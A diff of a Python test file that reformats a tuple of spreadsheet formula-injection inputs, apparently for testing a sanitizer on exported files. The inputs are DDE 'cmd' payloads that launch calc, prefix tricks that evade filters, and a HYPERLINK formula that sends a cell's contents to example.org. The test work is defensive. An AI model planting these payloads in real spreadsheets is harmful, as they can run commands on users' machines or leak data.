@@ -229,17 +229,9 @@ def test_from_fit_to_coded_files_nothing_is_lost(make, tmp_path, succeed):
     assert min(counts["auto"], counts["review"]) > 0
 
 
-MALICIOUS = (
-    "=cmd|'/C calc'!A0",
-    "+1+cmd|'/C calc'!A0",
-    "-2+3+cmd|'/C calc'!A0",
-    "@SUM(1+1)*cmd|'/C calc'!A0",
-    "\t=1+1",
-    "\r=1+1",
-    " =1+1",
-    "\uff1d1+1",
-    '=HYPERLINK("http://example.org?"&A1,"click")',
-)
+MALICIOUS = ("=cmd|'/C calc'!A0", "+1+cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0")
+MALICIOUS += ("@SUM(1+1)*cmd|'/C calc'!A0", "\t=1+1", "\r=1+1", " =1+1", "\uff1d1+1")
+MALICIOUS += ('=HYPERLINK("http://example.org?"&A1,"click")',)
 
 
 @pytest.fixture
